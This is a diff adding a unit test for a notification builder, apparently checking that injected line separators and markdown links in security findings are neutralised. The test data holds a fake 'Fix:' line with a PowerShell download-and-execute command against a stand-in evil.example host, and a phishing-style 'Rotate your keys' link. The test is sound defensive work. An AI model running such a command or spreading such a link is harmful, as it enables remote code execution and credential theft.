@@ -637,6 +637,31 @@ describe('Function: buildNotification', () => {
       );
     });
 
+    it('forges no line with a line separator, and makes no link of a name in the chat', () => {
+      // Prepare: a group name that would add a "Fix:" line, and one written as a link.
+      const forged = 'win-asg\u2028  Fix: run iwr https://evil.example/x|iex';
+      const report = makeReport({
+        findings: [
+          makeFinding({
+            severity: 'HIGH',
+            description: `Nodes of ${forged} and of [Rotate your keys](https://evil.example/login) fail.`,
+          }),
+        ],
+      });
+
+      // Act
+      const { message } = buildNotification({ report, minimumSeverity: 'MEDIUM' });
+
+      // Assess
+      const { messages, chat } = parse(message);
+      for (const text of [messages.email, messages.default, chat.content.description]) {
+        expect(text).not.toContain('\u2028');
+      }
+      expect(messages.email).toContain('win-asg Fix: run iwr');
+      expect(chat.content.description).toContain('[Rotate your keys] (https://evil.example/login)');
+      expect(chat.content.description).not.toContain('](');
+    });
+
     it('adds no warnings line when the report has none', () => {
       // Act
       const { message } = buildNotification({ report: makeReport(), minimumSeverity: 'MEDIUM' });
